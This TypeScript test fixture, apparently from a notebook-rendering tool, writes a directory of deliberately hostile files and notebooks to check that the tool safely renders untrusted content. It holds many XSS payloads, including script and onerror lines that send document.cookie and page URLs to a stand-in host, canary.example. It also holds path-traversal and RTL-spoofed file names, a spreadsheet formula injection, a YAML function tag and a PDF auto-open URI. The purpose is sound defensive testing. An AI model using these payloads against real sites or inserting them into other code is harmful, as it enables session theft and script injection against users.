import { mkdir, writeFile } from "node:fs/promises";
import { readFileSync } from "node:fs";
import { join } from "node:path";

/** What asks for names and connections by itself, which no policy forbids: docs/threat-model.md tells of it. */
export const HINTS =
  "<link rel='dns-prefetch' href='//dns.canary.example'><link rel='preconnect' href='http://canary.example'>";

/** Markup that does all it can wherever it is taken for markup. */
export const ACTIVE = [
  "<script>globalThis.pwned = 1; fetch('http://canary.example/fetch?' + document.cookie); alert(1)</script>",
  "<img src='http://img.canary.example/i.png' onerror='pwned = 1; alert(2)'>",
  "<svg onload='alert(3)'><image href='http://svg.canary.example/s.png'/></svg>",
  "<iframe src='http://frame.canary.example/'></iframe><iframe srcdoc='<script>top.pwned = 1</script>'></iframe>",
  "<link rel='stylesheet' href='http://css.canary.example/c.css'><link rel='prefetch' href='http://canary.example/prefetch'>",
  "<meta http-equiv='refresh' content='0;url=http://canary.example/refresh'>",
  "<base href='http://base.canary.example/'><a href='javascript:alert(4)'>one</a><a href='http://link.canary.example/'>two</a>",
  "<form action='http://canary.example/form'><button autofocus onfocus='this.form.submit()'>three</button></form>",
  "<object data='http://canary.example/object'></object><embed src='http://canary.example/embed'>",
  "<video src='http://canary.example/video' autoplay></video><audio src='http://canary.example/audio' autoplay></audio>",
].join("\n");

/** A script that tells all it knows and goes away, in a document of its own. */
const SELF_NAVIGATION =
  "<script>new Image().src = 'http://canary.example/image'; location = 'http://canary.example/self?' + location.href</script>";

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(5)"><script>globalThis.pwned = 1; location = 'http://canary.example/svg'</script><image href="http://canary.example/inner.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://canary.example/foreign"/></body></foreignObject></svg>`;

/** Files with hostile names; what is in each is hostile to whatever shows it. */
export const FILES: Readonly<Record<string, string>> = {
  "<img src=x onerror=alert(6)>.md": `# ${ACTIVE}${HINTS}\n\n[link](javascript:alert(7)) ![i](http://md.canary.example/i.png)\n\n${ACTIVE}`,
  '"><svg onload=alert(8)>.csv': `"<img src=x onerror=alert(9)>",b\n"${ACTIVE.replaceAll('"', '""')}",2\n=HYPERLINK("http://canary.example/"),3\n`,
  "'-alert(10)-'.json": JSON.stringify({ __proto__: null, "<script>alert(11)</script>": ACTIVE }),
  "javascript:alert(12)": ACTIVE,
  "..%2f..%2fetc%2fpasswd.txt": ACTIVE,
  "a?b#c&d=e+f%00.log": `\u001b]8;;javascript:alert(13)\u0007${ACTIVE}\u001b]8;;\u0007`,
  "\u202Egnp.html": `<!doctype html>${ACTIVE}${SELF_NAVIGATION}`,
  "&lt;b&gt;{{constructor.constructor('alert(14)')()}}.svg": SVG,
  "${alert(15)}`.py": `"""${ACTIVE}"""`,
  "__proto__.yaml": `a: !!js/function >\n  alert(16)\n# ${ACTIVE}`,
  "picture.png": ACTIVE,
  "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><body>${SVG}<script>alert(17)</script></body></html>`,
  "sheet.xml": `<?xml-stylesheet href="http://canary.example/x.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(18)</h:script></a>`,
  "script.js": "globalThis.pwned = 1; alert(19)",
  "sound.mp3": ACTIVE,
  "paper.pdf": `%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(http://canary.example/pdf)>>>>endobj\n${ACTIVE}`,
};

/** A notebook with a hostile name, a hostile title and hostile metadata. */
export const NAMED = "<img src=x onerror=alert(20)> & \"'.ipynb";

/** What raises, and what it says. */
export const ERROR = { name: "<img src=x onerror=alert(21)>", value: `</pre>${ACTIVE}${HINTS}` };

/** Code that shows again what is in the outputs of a notebook, as a kernel that is hostile would. */
const REPLAY = `
import json, sys
from IPython.display import display
def text(value, mime=''):
    joined = ''.join(value) if isinstance(value, list) and not mime.endswith('json') else value
    return joined.encode('utf-8', 'replace').decode() if isinstance(joined, str) else joined
def replay(path):
    for cell in json.load(open(path))['cells']:
        for output in cell.get('outputs', []):
            if 'data' in output:
                display({mime: text(value, mime) for mime, value in output['data'].items()}, metadata=output.get('metadata', {}), raw=True)
            elif output['output_type'] == 'stream':
                print(text(output['text']), end='', file=sys.stderr if output['name'] == 'stderr' else sys.stdout)
            else:
                print(text('\\n'.join(output.get('traceback', []))), file=sys.stderr)
def scrap(name, value):
    display({'application/scrapbook.scrap.json+json': {'name': name, 'data': value, 'encoder': 'json', 'version': 1}}, metadata={'scrapbook': {'name': name, 'data': True, 'display': False}}, raw=True)`;

/**
 * Writes the home of somebody hostile: {@link FILES}, {@link NAMED}, and `gallery.ipynb`, whose run shows
 * everything that these notebooks show, leaves a hostile file, waits for a marker, and fails.
 *
 * @param pointed - Points what stands for a canary at it.
 */
export async function furnish(
  home: string,
  {
    names,
    marker,
    pointed,
  }: {
    readonly names: readonly string[];
    readonly marker: string;
    readonly pointed: (text: string) => string;
  },
): Promise<void> {
  const directory = join(home, "<b onmouseover=alert(22)>");
  await mkdir(directory);
  for (const [name, text] of Object.entries(FILES)) await writeFile(join(directory, name), pointed(text));
  await writeFile(join(directory, NAMED), pointed(named()));
  await writeFile(join(home, "gallery.ipynb"), pointed(gallery(home, { names, marker })));
  await writeFile(join(home, "measure.ipynb"), pointed(measure()));
}

function named(): string {
  const cells = [
    {
      cell_type: "markdown",
      id: "a",
      metadata: {},
      source: `# Named ${ACTIVE}\n\nexcerpt ${ACTIVE}${HINTS}`,
    },
  ];
  const metadata = {
    title: ACTIVE,
    authors: [{ name: ACTIVE }],
    tags: [ACTIVE],
    kernelspec: { name: ACTIVE, display_name: ACTIVE, language: ACTIVE },
    language_info: { name: ACTIVE, mimetype: ACTIVE },
  };
  return JSON.stringify({ cells, metadata, nbformat: 4, nbformat_minor: 5 });
}

/** The cells of a notebook that declares hostile parameters: names are of the language, all else is not. */
const PARAMETERS = `title: str = ${JSON.stringify(ACTIVE)}  # ${ACTIVE.replaceAll("\n", " ")}
kind = "<b onmouseover=alert(23)>"  # one of "<i>", "javascript:alert(24)"
nested = {"<script>alert(25)</script>": ["<img src=x onerror=alert(26)>"]}
turn = 1  # <img src=x onerror=alert(27)>`;

function gallery(
  home: string,
  { names, marker }: { readonly names: readonly string[]; readonly marker: string },
): string {
  const widgets = {};
  const shows = names.flatMap((name) => {
    const { cells, metadata } = read(home, name);
    Object.assign(widgets, metadata.widgets?.[WIDGET_STATE]?.state);
    return [
      ...cells.filter(({ cell_type: kind }) => kind === "markdown" || kind === "raw"),
      code(`replay(${JSON.stringify(join(home, name))})`),
    ];
  });
  const cells = [
    code(PARAMETERS, { tags: ["parameters"] }),
    code(REPLAY),
    ...shows,
    code(`import os
open(os.path.join(os.environ['NOTEMILL_OUTPUTS'], ${JSON.stringify(ERROR.name)} + '.html'), 'w').write(${JSON.stringify(ACTIVE)})
print('turn', turn)`),
    code(
      `import time\nprint('all is shown', flush=True)\nwhile not os.path.exists(${JSON.stringify(marker)}): time.sleep(0.05)`,
    ),
    code(`raise type(${JSON.stringify(ERROR.name)}, (Exception,), {})(${JSON.stringify(ERROR.value)})`),
  ];
  const state = { version_major: 2, version_minor: 0, state: widgets };
  return document(cells, { widgets: { [WIDGET_STATE]: state } });
}

/** What a gallery takes from a notebook. */
interface Shown {
  readonly cells: readonly { readonly cell_type: string }[];
  readonly metadata: {
    readonly widgets?: { readonly [WIDGET_STATE]?: { readonly state: object } };
  };
}

const WIDGET_STATE = "application/vnd.jupyter.widget-state+json";

function read(home: string, name: string): Shown {
  return JSON.parse(readFileSync(join(home, name), "utf8")) as Shown;
}

function measure(): string {
  return document([
    code(PARAMETERS, { tags: ["parameters"] }),
    code(REPLAY),
    code(
      "scrap('<img src=x onerror=alert(28)>', len(title))\nscrap('__proto__', 2)\nscrap('text', title)\nprint(title)",
    ),
  ]);
}

function code(source: string, metadata: object = {}): object {
  return { cell_type: "code", metadata, source, execution_count: null, outputs: [] };
}

function document(cells: readonly object[], more: object = {}): string {
  const kernelspec = { display_name: "Python 3", language: "python", name: "python3" };
  const metadata = { kernelspec, ...more };
  const named = cells.map((cell, index) => ({ ...cell, id: `g${index}` }));
  return JSON.stringify({ cells: named, metadata, nbformat: 4, nbformat_minor: 5 });
}
